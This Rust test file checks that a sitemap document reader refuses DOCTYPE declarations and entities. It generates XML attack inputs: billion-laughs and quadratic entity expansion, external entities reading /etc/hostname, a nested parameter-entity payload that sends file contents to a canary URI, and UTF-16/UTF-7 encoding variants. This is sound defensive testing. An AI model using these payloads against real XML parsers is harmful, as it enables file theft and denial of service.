//! Document type declarations and entities: refused wherever a document comes in, and nothing that they name is asked for.

use std::io::BufReader;

use resyncd::protocol::DocumentReader;
use url::Url;

use crate::PROCESSOR;
use crate::doors::{Door, Guarded};

/// Where an external entity would be had from.
const CANARY: &str = "/canary";

/// A way to say it, with the codes that it may be refused with.
struct Variant {
    name: &'static str,
    bytes: Vec<u8>,
    codes: &'static [&'static str],
}

const DOCTYPE: &[&str] = &["doctype"];
const ENTITY: &[&str] = &["entity"];
const ENCODING: &[&str] = &["unsupported-encoding"];

/// The document with all that entities have been used for. `canary` is a URI that must never be asked for.
fn variants(whole: &str, canary: &str) -> Vec<Variant> {
    let root_at = whole.find("?>").unwrap() + 2;
    let (declaration, root) = whole.split_at(root_at);
    let root = root.trim_start();
    // Before the root, and used where a URI stands.
    let with = |before: &str, used: &str| {
        let used = root.replacen("<loc>", &format!("<loc>{used}"), 1);
        format!("{declaration}{before}{used}").into_bytes()
    };
    let laughs: String = (1..10)
        .map(|n| {
            let before = format!("&l{};", n - 1).repeat(10);
            format!("<!ENTITY l{n} \"{before}\">")
        })
        .collect();
    let laughs = format!("<!DOCTYPE lolz [<!ENTITY l0 \"lol\">{laughs}]>");
    let quadratic = format!("<!DOCTYPE q [<!ENTITY q \"{}\">]>", "q".repeat(30_000));
    let external = |uri: &str| format!("<!DOCTYPE x [<!ENTITY x SYSTEM \"{uri}\">]>");
    let parameter = format!("<!DOCTYPE x [<!ENTITY % x SYSTEM \"{canary}\"> %x;]>");
    let nested = format!(
        "<!DOCTYPE x [<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '{canary}?%f;'>\">%e;%s;]>"
    );
    let system = format!("<!DOCTYPE urlset SYSTEM \"{canary}\">");
    let public = format!("<!DOCTYPE urlset PUBLIC \"-//S//DTD S//EN\" \"{canary}\">");
    let defaults =
        "<!DOCTYPE urlset [<!ATTLIST rs:md change CDATA \"deleted\" capability CDATA \"x\">]>";
    let empty = "<!DOCTYPE urlset>";
    let utf16 = |bytes: fn(u16) -> [u8; 2], mark: &[u8]| {
        let text = format!("{empty}{root}");
        let text = text.encode_utf16().flat_map(bytes);
        mark.iter().copied().chain(text).collect::<Vec<u8>>()
    };
    let inside = root.find('>').unwrap() + 1;
    let (opened, rest) = root.split_at(inside);
    let is = |name, bytes: Vec<u8>, codes| Variant { name, bytes, codes };
    let text = String::into_bytes;
    vec![
        is("a billion laughs", with(&laughs, "&l9;"), DOCTYPE),
        is(
            "quadratic blow-up",
            with(&quadratic, &"&q;".repeat(1000)),
            DOCTYPE,
        ),
        is(
            "a file",
            with(&external("file:///etc/hostname"), "&x;"),
            DOCTYPE,
        ),
        is(
            "a file, and never used",
            with(&external("file:///etc/hostname"), ""),
            DOCTYPE,
        ),
        is("a URI", with(&external(canary), "&x;"), DOCTYPE),
        is("a parameter entity", with(&parameter, ""), DOCTYPE),
        is(
            "parameter entities that carry a file away",
            with(&nested, ""),
            DOCTYPE,
        ),
        is("an external subset", with(&system, ""), DOCTYPE),
        is("a public external subset", with(&public, ""), DOCTYPE),
        is("default attributes", with(defaults, ""), DOCTYPE),
        is("an empty declaration", with(empty, ""), DOCTYPE),
        is(
            "after a comment",
            with(&format!("<!-- c -->{system}"), ""),
            DOCTYPE,
        ),
        is(
            "after an instruction",
            with(&format!("<?p i?>\n{system}"), ""),
            DOCTYPE,
        ),
        is("twice", with(&format!("{empty}{system}"), ""), DOCTYPE),
        is(
            "without a declaration of XML",
            text(format!("{system}{root}")),
            DOCTYPE,
        ),
        is(
            "after a byte order mark",
            text(format!("\u{feff}{system}{root}")),
            DOCTYPE,
        ),
        is("in lower case", with(&system.to_lowercase(), ""), DOCTYPE),
        is(
            "within the root",
            text(format!("{declaration}{opened}{system}{rest}")),
            DOCTYPE,
        ),
        is("after the root", text(format!("{whole}{system}")), DOCTYPE),
        is(
            "left open",
            with("<!DOCTYPE urlset [", ""),
            &["cut-short", "not-xml", "doctype"],
        ),
        is(
            "in UTF-16",
            utf16(u16::to_le_bytes, &[0xff, 0xfe]),
            ENCODING,
        ),
        is(
            "in UTF-16 of the other order",
            utf16(u16::to_be_bytes, &[0xfe, 0xff]),
            ENCODING,
        ),
        is(
            "in UTF-16 without a mark",
            utf16(u16::to_be_bytes, &[]),
            ENCODING,
        ),
        is(
            "in UTF-7",
            text(format!(
                "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE x+AD4-{root}"
            )),
            ENCODING,
        ),
        is("an entity that is not declared", with("", "&x;"), ENTITY),
        is(
            "an entity in an attribute",
            text(format!("{declaration}{opened}<a b=\"&x;\"/>{rest}")),
            ENTITY,
        ),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn no_door_takes_entities() {
    let _turn = PROCESSOR.read().await;
    for door in Door::ALL {
        let guarded = Guarded::start(door).await;
        let canary = guarded.rig.source.base().join(CANARY).unwrap();
        let variants = variants(&guarded.whole, canary.as_str());
        assert!(variants.len() >= 20);
        for Variant { name, bytes, codes } in variants {
            guarded.refuses(name, bytes, codes).await;
        }
        assert_eq!(guarded.rig.source.hits(CANARY), 0, "{door:?}");
        guarded.recovers().await;
    }
}

#[test]
fn entities_are_refused_however_the_bytes_are_cut() {
    let whole = r#"<?xml version="1.0" encoding="UTF-8"?>
        <urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>http://example.com/a</loc></url></urlset>"#;
    let base = Url::parse("http://example.com/").unwrap();
    for Variant { name, bytes, codes } in variants(whole, "http://example.com/canary") {
        for piece in (1..24).chain([4096]) {
            let read = || {
                let input = BufReader::with_capacity(piece, bytes.as_slice());
                let mut reader = DocumentReader::open(input, &base)?;
                while reader.next_entry()?.is_some() {}
                Ok::<(), resyncd::protocol::ReadError>(())
            };
            let error = read().expect_err(name);
            assert!(codes.contains(&error.code()), "{name}, by {piece}: {error}");
        }
    }
}
